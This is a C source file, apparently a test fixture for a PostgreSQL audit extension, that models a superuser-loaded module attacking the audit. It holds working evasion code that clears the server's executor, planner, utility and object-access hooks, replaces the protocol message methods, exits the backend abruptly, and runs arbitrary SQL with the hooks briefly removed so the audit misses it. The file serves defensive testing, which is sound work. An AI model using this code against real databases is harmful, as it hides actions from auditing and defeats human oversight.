/*
 * hostile.c: what somebody who may load C into the server would try against the
 * audit. Built and loaded by TestAgainstTheSuperuser.
 */
#include "postgres.h"

#include <unistd.h>

#include "catalog/objectaccess.h"
#include "executor/executor.h"
#include "executor/spi.h"
#include "fmgr.h"
#include "optimizer/planner.h"
#include "tcop/utility.h"
#include "utils/builtins.h"

#undef ENABLE_GSS
#undef USE_OPENSSL
#include "libpq/libpq.h"

PG_MODULE_MAGIC;

void _PG_init(void);

static PQcommMethods methods;
static const PQcommMethods *theirs;

static int
put_message(char type, const char *body, size_t length)
{
	return theirs->putmessage(type, body, length);
}

static void
silence(void)
{
	planner_hook = NULL;
	ExecutorStart_hook = NULL;
	ExecutorRun_hook = NULL;
	ExecutorFinish_hook = NULL;
	ExecutorEnd_hook = NULL;
	ExecutorCheckPerms_hook = NULL;
	ProcessUtility_hook = NULL;
	object_access_hook = NULL;
	theirs = PqCommMethods;
	methods = *theirs;
	methods.putmessage = put_message;
	PqCommMethods = &methods;
}

void
_PG_init(void)
{
#ifdef AT_LOAD
	silence();
#endif
}

PG_FUNCTION_INFO_V1(take_hooks);
Datum
take_hooks(PG_FUNCTION_ARGS)
{
	silence();
	PG_RETURN_VOID();
}

/* leave ends the process as no session may: not a line of the server's own code runs. */
PG_FUNCTION_INFO_V1(leave);
Datum
leave(PG_FUNCTION_ARGS)
{
	_exit(0);
}

/* around runs a statement with the hooks out of the way, and puts them back before anybody looks. */
PG_FUNCTION_INFO_V1(around);
Datum
around(PG_FUNCTION_ARGS)
{
	ExecutorStart_hook_type start = ExecutorStart_hook;
	ExecutorRun_hook_type run = ExecutorRun_hook;
	ExecutorFinish_hook_type finish = ExecutorFinish_hook;
	ExecutorEnd_hook_type end = ExecutorEnd_hook;

	ExecutorStart_hook = NULL;
	ExecutorRun_hook = NULL;
	ExecutorFinish_hook = NULL;
	ExecutorEnd_hook = NULL;
	SPI_connect();
	SPI_execute(text_to_cstring(PG_GETARG_TEXT_PP(0)), false, 0);
	SPI_finish();
	ExecutorStart_hook = start;
	ExecutorRun_hook = run;
	ExecutorFinish_hook = finish;
	ExecutorEnd_hook = end;
	PG_RETURN_VOID();
}
